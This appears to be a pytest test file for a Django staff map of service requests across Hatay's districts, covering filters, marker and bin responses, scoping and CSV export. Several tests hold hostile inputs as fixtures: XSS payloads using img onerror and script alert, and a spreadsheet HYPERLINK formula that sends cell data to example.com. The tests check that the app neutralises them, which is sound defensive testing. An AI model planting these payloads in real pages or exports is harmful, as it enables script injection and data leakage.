"""``/map/`` and its data answers, as served, on the real districts."""

import csv
import json
import re

import pytest
from django.utils import translation

from geopool.models import ServiceRequest
from geopool.web.staffmap import bins
from tests.web.helpers import ANTAKYA, point_inside, request_at

pytestmark = pytest.mark.django_db

# Central Hatay at zoom 9: the whole province in a desktop window.
PROVINCE = {"bbox": "35.7,35.7,36.8,37.1", "zoom": "9"}
ASSET = re.compile(r"<(?:script[^>]*\ssrc|link[^>]*\shref)=\"(?P<url>[^\"]*)\"")
HOSTILE = "<img src=x onerror=alert(1)> <b>kalın</b>"


@pytest.fixture
def coordinator(client, make_staff):
    client.force_login(make_staff("coordinator", body="HBB"))
    return client


def _config(page):
    match = re.search(
        r'<script id="map-config" type="application/json">(.*?)</script>', page
    )
    return json.loads(match[1])


def test_map_page_is_turkish_and_serves_every_asset_itself(coordinator):
    response = coordinator.get("/map/")
    page = response.text

    assert response.headers["Content-Language"] == "tr"
    for text in ("Harita", "Süz", "İlçeler karşılaştırması", "konumsuz"):
        assert text in page
    urls = [m["url"] for m in ASSET.finditer(page)]
    assert any(url.endswith("leaflet.markercluster.js") for url in urls)
    assert any(url.endswith("geopool/staff_map.js") for url in urls)
    for url in urls:
        assert url.startswith("/static/"), url
    config = _config(page)
    assert config["district_layer"] == "districts"
    assert [layer["code"] for layer in config["layers"]][0] == "districts"


def test_district_table_headings_are_whole_turkish_words(coordinator):
    page = coordinator.get("/map/").text

    table = re.search(r'<table[^>]*data-testid="district-table".*?</table>', page, re.S)
    headings = re.findall(r"<th[^>]*data-sort[^>]*>([^<]*)</th>", table[0])
    assert headings == [
        "İlçe",
        "Talepler",
        "1.000 kişi başına",
        "Ortanca çözüm süresi (saat)",
        "Hedef sürede çözülen",
        "Açık iş yükü",
        "Devirler",
    ]


def test_map_page_follows_an_english_browser(coordinator):
    page = coordinator.get("/map/", HTTP_ACCEPT_LANGUAGE="en").text
    assert "Districts compared" in page
    assert _config(page)["text"]["heat"] == "Heat map (bins)"


def test_bad_filters_answer_400_saying_what_was_expected(coordinator):
    response = coordinator.get("/map/data/districts/", {"date_from": "7.12.2026"})
    assert response.status_code == 400
    assert response.json() == {
        "errors": {"date_from": "Tarihi YYYY-AA-GG olarak verin, ör. 2026-02-06."}
    }

    response = coordinator.get(
        "/map/data/view/", {"date_from": "2026-12-08", "date_to": "2026-12-01"}
    )
    assert response.status_code == 400
    assert "2026-12-08" in response.json()["errors"]["__all__"]

    page = coordinator.get("/map/", {"category": "NO-SUCH"})
    assert page.status_code == 400
    assert 'data-testid="filter-error"' in page.text


@pytest.mark.parametrize(
    "params, fragment",
    [
        ({"bbox": "36,36,35,37", "zoom": "9"}, "bbox"),  # west > east
        ({"bbox": "a,b,c,d", "zoom": "9"}, "bbox"),
        ({"bbox": "35.7,35.7,36.8,37.1", "zoom": "25"}, "zoom"),
        ({"bbox": "35.7,35.7,36.8,37.1"}, "zoom"),
        ({"bbox": "-180,-85,180,85", "zoom": "16"}, "12000"),  # world at street zoom
    ],
)
def test_bad_viewports_answer_400_saying_what_was_expected(
    coordinator, params, fragment
):
    response = coordinator.get("/map/data/view/", params)
    assert response.status_code == 400
    message = response.json()["errors"]["view"]
    assert fragment in message.replace(".", "")


def test_few_requests_in_view_come_as_markers_with_decimal_points(coordinator):
    item = request_at("COP", **ANTAKYA)
    request_at("COP")  # no location: never a marker

    with translation.override("tr"):
        response = coordinator.get("/map/data/view/", PROVINCE)

    data = response.json()
    assert data["mode"] == "markers"
    (marker,) = data["markers"]
    assert marker[:3] == [36.2021, 36.1603, item.tracking_code]
    assert data["categories"][marker[3]] == "Çöp toplama ve konteyner"
    assert b"36.2021" in response.content and b"36,2021" not in response.content


def test_many_requests_in_view_come_as_bins_counted_in_postgis(
    coordinator, monkeypatch
):
    monkeypatch.setattr(bins, "MARKER_LIMIT", 2)
    for _ in range(3):
        request_at("COP", **ANTAKYA)
    request_at("COP", **point_inside("İskenderun"))

    data = coordinator.get("/map/data/view/", PROVINCE).json()

    assert data["mode"] == "bins"
    assert data["total"] == 4
    size = bins.METRES_PER_PX_Z0 / 2**9 * bins.CELL_PX
    assert data["size_m"] == pytest.approx(size)
    cells = {
        (data["origin"][0] + di, data["origin"][1] + dj): n
        for di, dj, n in data["bins"]
    }
    antakya_cell = (
        int(bins.mercator_x(ANTAKYA["lon"]) // size),
        int(bins.mercator_y(ANTAKYA["lat"]) // size),
    )
    assert cells[antakya_cell] == 3
    assert sorted(cells.values()) == [1, 3]


def test_bin_bytes_grow_with_the_bins_not_the_requests(coordinator, monkeypatch):
    monkeypatch.setattr(bins, "MARKER_LIMIT", 0)
    points = [ANTAKYA, point_inside("İskenderun"), point_inside("Reyhanlı")]
    for point in points:
        request_at("COP", **point)
    small = len(coordinator.get("/map/data/view/", PROVINCE).content)
    for point in points:
        for _ in range(9):
            request_at("COP", **point)

    big = coordinator.get("/map/data/view/", PROVINCE)

    assert big.json()["total"] == 30
    assert len(big.content) <= 1.1 * small


def test_clicking_a_bin_lists_exactly_its_requests_escaped(coordinator):
    inside = request_at("COP", **ANTAKYA, description=HOSTILE)
    elsewhere = request_at("COP", **point_inside("İskenderun"))
    size = bins.METRES_PER_PX_Z0 / 2**12 * bins.CELL_PX
    cell = (
        f"{int(bins.mercator_x(ANTAKYA['lon']) // size)},"
        f"{int(bins.mercator_y(ANTAKYA['lat']) // size)}"
    )

    page = coordinator.get("/map/requests/", {"zoom": "12", "cell": cell}).text

    assert f'href="/requests/{inside.tracking_code}/"' in page
    assert elsewhere.tracking_code not in page
    assert "<img src=x" not in page and "<b>kalın" not in page
    assert "&lt;img src=x onerror=alert(1)&gt; &lt;b&gt;kalın&lt;/b&gt;" in page


def test_a_bad_cell_answers_400(coordinator):
    response = coordinator.get("/map/requests/", {"zoom": "12", "cell": "x"})
    assert response.status_code == 400
    assert "i,j" in response.json()["errors"]["list"]


def test_requests_without_a_mappable_location_are_counted_and_listed(coordinator):
    request_at("COP", **ANTAKYA)
    nowhere = request_at("COP")
    broken = request_at("COP", **ANTAKYA)
    ServiceRequest.objects.filter(pk=broken.pk).update(
        location="SRID=4326;POINT(36.16 89.5)"
    )

    totals = coordinator.get("/map/data/districts/").json()["totals"]
    listed = coordinator.get("/map/requests/", {"unmapped": "1"}).text
    view = coordinator.get("/map/data/view/", PROVINCE).json()

    assert totals == {
        "total": 3,
        "without_location": 1,
        "mappable": 1,
        "unmappable": 1,
        "in_districts": 1,
        "outside_districts": 0,
    }
    assert nowhere.tracking_code in listed and broken.tracking_code in listed
    assert view["total"] == 1


def test_map_counts_and_lists_follow_the_scope(client, make_staff):
    antakya_cop = request_at("COP", **ANTAKYA)
    iskenderun_cop = request_at("COP", **point_inside("İskenderun"))
    client.force_login(make_staff("body_staff", body="ANTAKYA"))

    view = client.get("/map/data/view/", PROVINCE).json()
    totals = client.get("/map/data/districts/").json()["totals"]
    listed = client.get("/map/requests/", {"code": iskenderun_cop.tracking_code})

    assert [m[2] for m in view["markers"]] == [antakya_cop.tracking_code]
    assert totals["total"] == 1
    assert f'data-code="{iskenderun_cop.tracking_code}"' not in listed.text
    assert "Başvuru yok." in listed.text


def test_filters_change_the_counts(coordinator):
    request_at("COP", **ANTAKYA)
    request_at("SU", **ANTAKYA)

    every = coordinator.get("/map/data/districts/").json()
    water = coordinator.get("/map/data/districts/", {"category": "SU"}).json()
    hatsu = coordinator.get("/map/data/districts/", {"body": "HATSU"}).json()
    web = coordinator.get("/map/data/districts/", {"channel": "web"}).json()

    def antakya(data):
        return next(d for d in data["districts"] if d["code"] == "2080")["requests"]

    assert (antakya(every), antakya(water), antakya(hatsu), antakya(web)) == (
        2,
        1,
        1,
        0,
    )


def test_district_csv_has_the_figures_with_decimal_points(coordinator):
    for _ in range(3):
        request_at("COP", **ANTAKYA)

    with translation.override("tr"):
        response = coordinator.get("/map/districts.csv", {"category": "COP"})

    lines = response.content.decode("utf-8-sig").splitlines()
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert lines[0].startswith(
        "İlçe kodu,İlçe,Nüfus,Nüfus yılı,Talepler,1.000 kişi başına"
    )
    antakya = next(line for line in lines if line.startswith("2080,"))
    assert antakya.split(",")[:6] == ["2080", "Antakya", "298620", "", "3", "0.0100"]
    assert len(lines) == 16


def test_district_csv_never_holds_a_formula(coordinator):
    """District names come from a planner's upload: one a spreadsheet would
    run is written with a leading apostrophe."""
    from boundaries.models import Feature

    Feature.objects.filter(
        generation__layer__code="districts", generation__is_active=True, code="2080"
    ).update(name='=HYPERLINK("http://example.com/"&A1,"x")')

    response = coordinator.get("/map/districts.csv")

    rows = list(csv.reader(response.content.decode("utf-8-sig").splitlines()))
    antakya = next(row for row in rows if row[0] == "2080")
    assert antakya[1] == '\'=HYPERLINK("http://example.com/"&A1,"x")'


def test_layers_come_as_geojson_with_names_and_codes_only(coordinator):
    data = coordinator.get("/map/data/layers/districts/").json()

    assert len(data["features"]) == 15
    assert data["truncated"] is False
    names = {f["properties"]["name"] for f in data["features"]}
    assert "İskenderun" in names
    assert set(data["features"][0]["properties"]) == {"name", "code"}
    assert coordinator.get("/map/data/layers/no-such/").status_code == 404


def test_the_page_can_draw_the_district_layer_only(coordinator):
    assert _config(coordinator.get("/map/").text)["mode"] == "full"
    page = coordinator.get("/map/", {"layers": "districts", "category": "SU"}).text
    config = _config(page)
    assert (config["mode"], config["query"]) == ("districts", "category=SU")


def test_hostile_text_in_a_filter_value_stays_out_of_the_page(coordinator):
    response = coordinator.get("/map/", {"category": "<script>alert(1)</script>"})
    assert response.status_code == 400
    assert "<script>alert(1)" not in response.text


def test_the_district_filter_takes_a_shared_edge_for_the_lowest_code(coordinator):
    from boundaries.lookup import covering_features
    from tests.web.helpers import points_on_shared_edge

    on_edge = next(
        p
        for p in points_on_shared_edge("Antakya", "Defne")
        if len(covering_features("districts", p["lon"], p["lat"])) == 2
    )
    edge = request_at("COP", **on_edge)
    inside = request_at("COP", **ANTAKYA)
    request_at("COP", **point_inside("Defne"))

    def codes(district):
        answer = coordinator.get(
            "/map/data/view/", {**PROVINCE, "district": district}
        ).json()
        return {m[2] for m in answer["markers"]}

    # Antakya's code 2080 is lower than Defne's 2082.
    assert codes("2080") == {edge.tracking_code, inside.tracking_code}
    assert edge.tracking_code not in codes("2082") and len(codes("2082")) == 1


def test_the_last_day_a_date_can_name_is_an_open_upper_bound(coordinator):
    request_at("COP", **ANTAKYA)
    last = {"date_to": "9999-12-31"}

    figures = coordinator.get("/map/data/districts/", last)
    view = coordinator.get("/map/data/view/", {**PROVINCE, **last})
    csv = coordinator.get("/map/districts.csv", last)

    assert (figures.status_code, view.status_code, csv.status_code) == (200, 200, 200)
    antakya = next(d for d in figures.json()["districts"] if d["code"] == "2080")
    assert antakya["requests"] == 1


def test_postgresql_stores_each_points_web_mercator_metres_for_the_bins():
    placed = request_at("COP", **ANTAKYA)
    broken = request_at("COP", **ANTAKYA)
    ServiceRequest.objects.filter(pk=broken.pk).update(
        location="SRID=4326;POINT(36.16 89.5)"
    )
    nowhere = request_at("COP")

    stored = dict(
        ServiceRequest.objects.extra(select={"x": "web_x", "y": "web_y"})
        .filter(pk__in=[placed.pk, broken.pk, nowhere.pk])
        .values_list("pk", "x")
    )
    [(y,)] = (
        ServiceRequest.objects.extra(select={"y": "web_y"})
        .filter(pk=placed.pk)
        .values_list("y")
    )

    assert stored[placed.pk] == pytest.approx(bins.mercator_x(ANTAKYA["lon"]), abs=1e-6)
    assert y == pytest.approx(bins.mercator_y(ANTAKYA["lat"]), abs=1e-6)
    # Beyond what Web Mercator draws, and without a point: no metres.
    assert stored[broken.pk] is None and stored[nowhere.pk] is None


def test_the_page_carries_the_district_layers_extent_for_its_first_view(
    coordinator,
):
    from boundaries.models import Feature
    from geopool.web.inbox.districts import district_generation

    extents = [
        f.geometry.extent
        for f in Feature.objects.filter(generation_id=district_generation())
    ]
    expected = [
        round(min(e[0] for e in extents), 5),
        round(min(e[1] for e in extents), 5),
        round(max(e[2] for e in extents), 5),
        round(max(e[3] for e in extents), 5),
    ]

    config = _config(coordinator.get("/map/").text)

    assert len(extents) == 15
    assert config["bounds"] == expected
    # Hatay, west of Samandağ's coast to the east of Reyhanlı.
    assert 35.7 < expected[0] < 36.0 < expected[2] < 36.8


def test_a_point_a_hair_beyond_the_mercator_square_is_unmappable_everywhere(
    coordinator,
):
    request_at("COP", **ANTAKYA)
    edges = [request_at("COP", **ANTAKYA) for _ in range(3)]
    for request, point in zip(
        edges,
        ("POINT(180.0000001 0.001)", "POINT(36 85.051129)", "POINT(36 -85.05113)"),
        strict=True,
    ):
        ServiceRequest.objects.filter(pk=request.pk).update(
            location=f"SRID=4326;{point}"
        )
    world = {"bbox": "-180,-85.05112878,180,85.05112878", "zoom": "0"}

    view = coordinator.get("/map/data/view/", world)
    edge = coordinator.get("/map/data/view/", {"bbox": "179,-1,180,1", "zoom": "8"})
    totals = coordinator.get("/map/data/districts/").json()["totals"]
    listed = coordinator.get("/map/requests/", {"unmapped": "1"}).text

    assert view.status_code == 200 and view.json()["total"] == 1
    assert edge.status_code == 200 and edge.json()["total"] == 0
    assert (totals["mappable"], totals["unmappable"]) == (1, 3)
    assert all(r.tracking_code in listed for r in edges)


def test_a_bin_beyond_the_map_answers_400(coordinator):
    response = coordinator.get("/map/requests/", {"zoom": "0", "cell": "0,100000000"})

    assert response.status_code == 400
    assert response.json()["errors"]["list"] == (
        "cell iki tam sayı i,j olmalı (hücrenin sütunu ve satırı, o yakınlaştırmada"
        " harita içinde); gelen: 0,100000000."
    )


def test_a_bin_number_longer_than_any_map_answers_400(coordinator):
    response = coordinator.get(
        "/map/requests/", {"zoom": "5", "cell": "9" * 400 + ",1"}
    )

    assert response.status_code == 400
    assert "cell iki tam sayı i,j olmalı" in response.json()["errors"]["list"]


def test_a_missing_viewport_is_named_in_the_pages_language(coordinator):
    response = coordinator.get("/map/data/view/")

    assert response.status_code == 400
    assert response.json()["errors"]["view"].endswith("gelen: hiçbir şey.")
